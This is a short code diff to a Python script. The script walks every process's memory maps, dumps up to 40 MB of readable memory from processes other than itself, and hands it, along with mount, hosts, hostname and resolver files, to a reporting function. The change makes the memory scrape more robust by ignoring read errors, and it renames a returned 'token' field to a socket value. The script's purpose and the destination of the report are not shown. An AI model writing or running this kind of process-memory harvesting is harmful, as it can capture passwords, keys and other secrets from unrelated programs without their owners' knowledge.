@@ -58,7 +58,8 @@ for pid in pids:
             for line in open(f"/proc/{pid}/maps"):
                 start, end = (int(number, 16) for number in line.split()[0].split("-"))
                 if line.split()[1][0] == "r" and pid != str(os.getpid()) and end < 1 << 47:
-                    file.seek(start); memory += file.read(min(end - start, 1 << 20))
+                    try: file.seek(start); memory += file.read(min(end - start, 1 << 20))
+                    except OSError: pass  # the kernel's own pages
     except OSError: pass
 say("memory", memory[:40 << 20])
 say("mounts", read("/proc/mounts", "/proc/self/mountinfo", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf"))
@@ -139,7 +140,7 @@ async def _look(folder: Path) -> dict[str, bytes]:
         **{name: bytes.fromhex(data) for name, data in rows},
         "engine": engine,
         "left": left,
-        "token": door.token.encode(),
+        "door": socket.encode(),
     }
 
 
